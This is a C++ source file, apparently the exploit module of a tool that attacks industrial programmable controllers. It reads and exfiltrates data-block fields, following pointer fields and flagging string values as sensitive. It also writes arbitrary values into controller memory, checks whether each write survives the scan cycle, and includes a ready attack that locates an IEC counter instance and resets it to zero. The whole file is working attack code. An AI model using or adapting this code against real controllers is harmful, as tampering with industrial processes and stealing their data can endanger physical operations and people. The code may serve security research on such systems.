#include "pcaad/exploit.hpp"

#include "pcaad/errors.hpp"

#include <chrono>
#include <thread>

namespace pcaad {

const char* write_verdict_name(WriteVerdict v) {
    switch (v) {
    case WriteVerdict::Persistent: return "persistent";
    case WriteVerdict::RevertedByCycle: return "reverted_by_cycle";
    case WriteVerdict::Rejected: return "rejected";
    }
    return "?";
}

namespace {

std::uint16_t field_read_width(const ElemType& t) {
    switch (t.kind) {
    case Elem::Bool:
    case Elem::Byte: return 1;
    case Elem::Word:
    case Elem::Int: return 2;
    case Elem::DWord:
    case Elem::DInt:
    case Elem::Real: return 4;
    case Elem::String: return static_cast<std::uint16_t>(t.capacity + 2);
    case Elem::Indirect: return spp::kIndirectSize;
    }
    return 0;
}

Bytes encode_value(const ElemType& elem, const spp::FieldValue& v) {
    if (const auto* a = std::get_if<spp::IndirectAddress>(&v)) return spp::encode_indirect(*a);
    Literal lit;
    if (const auto* i = std::get_if<std::int64_t>(&v)) lit = *i;
    else if (const auto* d = std::get_if<double>(&v)) lit = *d;
    else if (const auto* s = std::get_if<std::string>(&v)) lit = *s;
    else if (const auto* b = std::get_if<bool>(&v)) lit = *b;
    return spp::encode_field_literal(elem, lit);
}

} // namespace

spp::FieldValue parse_literal_text(const ElemType& elem, const std::string& text) {
    try {
        switch (elem.kind) {
        case Elem::Bool: {
            if (text == "1" || text == "true" || text == "TRUE") return true;
            if (text == "0" || text == "false" || text == "FALSE") return false;
            throw Error(ErrorCode::ConfigInvalid, "boolean literal must be 0/1/true/false");
        }
        case Elem::Byte:
        case Elem::Word:
        case Elem::Int:
        case Elem::DWord:
        case Elem::DInt: {
            std::size_t used = 0;
            const std::int64_t v = std::stoll(text, &used, 0);
            if (used != text.size())
                throw Error(ErrorCode::ConfigInvalid, "bad integer literal '" + text + "'");
            return v;
        }
        case Elem::Real: {
            std::size_t used = 0;
            const double v = std::stod(text, &used);
            if (used != text.size())
                throw Error(ErrorCode::ConfigInvalid, "bad real literal '" + text + "'");
            return v;
        }
        case Elem::String: return text;
        case Elem::Indirect: {
            const SymbolicAddress a = parse_address(text);
            return spp::IndirectAddress::to(a.db, a.byte_offset, a.bit);
        }
        }
    } catch (const std::invalid_argument&) {
        throw Error(ErrorCode::ConfigInvalid, "bad literal '" + text + "'");
    } catch (const std::out_of_range&) {
        throw Error(ErrorCode::ConfigInvalid, "literal out of range '" + text + "'");
    }
    throw Error(ErrorCode::ConfigInvalid, "bad literal '" + text + "'");
}

ExfilResult exfil_direct(spp::SppClient& client, const DbLayout& layout, std::uint16_t db,
                         const std::string& field) {
    const Placement& p = layout.at(field);
    if (p.elem.kind == Elem::Indirect)
        throw Error(ErrorCode::FieldUnknown, field + " is a pointer field, read it indirect");
    ExfilResult r;
    r.field = field;
    r.raw = client.read_bytes(db, p.byte_offset, field_read_width(p.elem));
    r.value = spp::decode_field_bytes(p.elem, r.raw, p.bit);
    r.request_count = 1;
    r.sensitive = p.elem.kind == Elem::String;
    return r;
}

ExfilResult exfil_indirect(spp::SppClient& client, const DbLayout& layout, std::uint16_t db,
                           const std::string& field) {
    const Placement& p = layout.at(field);
    if (p.elem.kind != Elem::Indirect)
        throw Error(ErrorCode::FieldUnknown, field + " is not a pointer field");
    ExfilResult r;
    r.field = field;
    r.indirect = true;
    r.pointer_raw = client.read_bytes(db, p.byte_offset, spp::kIndirectSize);
    const spp::IndirectAddress ptr = spp::decode_indirect(r.pointer_raw);
    r.resolved = ptr;

    const ElemType target = p.indirect_target.value_or(ElemType::string());
    const std::uint16_t width = field_read_width(target);
    if (ptr.byte_offset() > 0xffff)
        throw Error(ErrorCode::DanglingIndirect, field + " points beyond addressable space");
    try {
        r.raw = client.read_bytes(ptr.db, static_cast<std::uint16_t>(ptr.byte_offset()), width);
    } catch (const Error& e) {
        if (e.code() == ErrorCode::BlockNotFound || e.code() == ErrorCode::OutOfRange)
            throw Error(ErrorCode::DanglingIndirect,
                        field + " resolves to DB" + std::to_string(ptr.db) + "@" +
                            std::to_string(ptr.byte_offset()) + ": " + e.what());
        throw;
    }
    r.value = spp::decode_field_bytes(target, r.raw, ptr.bit());
    r.request_count = 2;
    r.sensitive = target.kind == Elem::String;
    return r;
}

ExfilResult exfil_field(spp::SppClient& client, const DbLayout& layout, std::uint16_t db,
                        const std::string& field) {
    return layout.at(field).elem.kind == Elem::Indirect
               ? exfil_indirect(client, layout, db, field)
               : exfil_direct(client, layout, db, field);
}

std::vector<ExfilResult> exfil_all(spp::SppClient& client, const DbLayout& layout,
                                   std::uint16_t db) {
    std::vector<ExfilResult> out;
    out.reserve(layout.placements.size());
    for (const Placement& p : layout.placements) {
        try {
            out.push_back(exfil_field(client, layout, db, p.field));
        } catch (const Error& e) {
            ExfilResult r;
            r.field = p.field;
            r.value = std::string("<error: ") + e.what() + ">";
            r.indirect = p.elem.kind == Elem::Indirect;
            out.push_back(std::move(r));
        }
    }
    return out;
}

WriteOutcome manipulate_write(spp::SppClient& client, const DbLayout& layout, std::uint16_t db,
                              const std::string& field, const spp::FieldValue& value,
                              int verify_after_ms) {
    const Placement& p = layout.at(field);
    WriteOutcome out;
    out.db = db;
    out.field = field;
    out.waited_ms = verify_after_ms;

    const std::uint16_t width = field_read_width(p.elem);
    const Bytes before = client.read_bytes(db, p.byte_offset, width);
    out.before = spp::field_value_to_string(spp::decode_field_bytes(p.elem, before, p.bit));

    Bytes wanted;
    if (p.elem.kind == Elem::Bool) {
        const bool v = std::get<bool>(value);
        const std::uint8_t mask = static_cast<std::uint8_t>(1u << p.bit);
        wanted = {static_cast<std::uint8_t>(v ? before[0] | mask : before[0] & ~mask)};
    } else {
        wanted = encode_value(p.elem, value);
    }
    out.requested = spp::field_value_to_string(value);

    try {
        client.write_bytes(db, p.byte_offset, wanted);
    } catch (const Error& e) {
        out.verdict = WriteVerdict::Rejected;
        out.note = e.what();
        return out;
    }

    std::this_thread::sleep_for(std::chrono::milliseconds(verify_after_ms));
    const Bytes after = client.read_bytes(db, p.byte_offset, width);
    out.observed = spp::field_value_to_string(spp::decode_field_bytes(p.elem, after, p.bit));

    bool held = false;
    if (p.elem.kind == Elem::Bool) {
        const std::uint8_t mask = static_cast<std::uint8_t>(1u << p.bit);
        held = (after[0] & mask) == (wanted[0] & mask);
    } else {
        held = after == wanted;
    }
    out.verdict = held ? WriteVerdict::Persistent : WriteVerdict::RevertedByCycle;
    return out;
}

WriteOutcome attack_counter_reset(spp::SppClient& client, const ScanReport& report,
                                  const Catalog& catalog, int verify_after_ms) {
    for (const BlockFinding& f : report.findings) {
        if (f.verdict != Verdict::Identified || f.candidates.front() != "IEC_CU") continue;
        const FbDecl* decl = catalog.find("IEC_CU");
        if (!decl) break;
        return manipulate_write(client, compile_layout(*decl), f.db, "CV",
                                spp::FieldValue(std::int64_t{0}), verify_after_ms);
    }
    throw Error(ErrorCode::NoSuchTarget, "no identified IEC_CU instance to reset");
}

} // namespace pcaad
